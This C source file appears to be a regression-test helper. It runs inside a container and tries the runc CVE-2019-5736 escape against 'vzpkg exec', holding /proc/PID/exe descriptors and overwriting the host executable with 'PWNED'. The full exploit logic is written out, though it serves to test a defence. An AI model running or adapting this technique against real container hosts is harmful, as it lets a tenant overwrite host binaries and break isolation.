/* attach-attacker.c: a tenant's daemon against `vzpkg exec` of a running
 * container (test-ct-attach.sh builds it statically and runs it inside the
 * container). The runc CVE-2019-5736 pattern: every new process it sees is
 * stopped, its /proc/PID/exe opened O_PATH and its target recorded, then
 * resumed; later each held descriptor is reopened for writing through
 * /proc/self/fd (ETXTBSY while anything runs it) and, if that works,
 * written. One line per event in LOG:
 *   seen PID EXE             a new process and its executable
 *   unreadable PID ERROR     a new process whose executable it could not
 *                            open (gone already, a zombie)
 *   WROTE EXE                the attack worked: EXE was overwritten
 *   refused EXE ERROR        reopening or writing EXE failed for good
 * Usage: attach-attacker LOG SECONDS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 512

static char seen[1 << 22];
static struct {
        int fd, done;
        char exe[256];
} held[MAX_HELD];
static int n_held;

static void scan(FILE *log, pid_t self, int hold)
{
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
                char *end, path[64];
                int hold_this = hold;
                long pid = strtol(e->d_name, &end, 10);
                if (*end || pid <= 1 || pid == self || pid >= (long)sizeof(seen) || seen[pid])
                        continue;
                seen[pid] = 1;
                kill((pid_t)pid, SIGSTOP);
                snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
                int fd = open(path, O_PATH | O_CLOEXEC);
                char exe[256];
                ssize_t n = readlink(path, exe, sizeof(exe) - 1);
                int e = errno;
                kill((pid_t)pid, SIGCONT);
                if (n <= 0 || fd < 0) {
                        /* gone already (or a zombie): nothing to attack */
                        fprintf(log, "unreadable %ld %s\n", pid, strerror(n <= 0 ? e : errno));
                        if (fd >= 0)
                                close(fd);
                        continue;
                }
                exe[n] = '\0';
                fprintf(log, "seen %ld %s\n", pid, exe);
                /* The container's own busybox is the tenant's already (and
                 * overwriting it would stop the test's container). */
                if (strcmp(exe, "/bin/busybox") == 0)
                        hold_this = 0;
                if (fd >= 0 && hold_this && n_held < MAX_HELD) {
                        held[n_held].fd = fd;
                        snprintf(held[n_held].exe, sizeof(held[n_held].exe), "%s", exe);
                        n_held++;
                } else if (fd >= 0)
                        close(fd);
        }
        if (d)
                closedir(d);
}

static void overwrite(FILE *log)
{
        for (int i = 0; i < n_held; i++) {
                char path[64];
                if (held[i].done)
                        continue;
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
                int w = open(path, O_WRONLY | O_CLOEXEC);
                if (w < 0 && errno == ETXTBSY)
                        continue;  /* still running: try again later */
                if (w >= 0 && write(w, "PWNED", 5) == 5)
                        fprintf(log, "WROTE %s\n", held[i].exe);
                else
                        fprintf(log, "refused %s %s\n", held[i].exe, strerror(errno));
                if (w >= 0)
                        close(w);
                held[i].done = 1;
        }
}

int main(int argc, char **argv)
{
        if (argc != 3)
                return 2;
        FILE *log = fopen(argv[1], "w");
        time_t end = time(NULL) + strtol(argv[2], NULL, 10);
        pid_t self = getpid();
        if (!log)
                return 1;
        setvbuf(log, NULL, _IOLBF, 0);
        /* what runs already is the container's own */
        scan(log, self, 0);
        fprintf(log, "ready\n");
        while (time(NULL) < end) {
                scan(log, self, 1);
                overwrite(log);
        }
        overwrite(log);
        fprintf(log, "done\n");
        return 0;
}
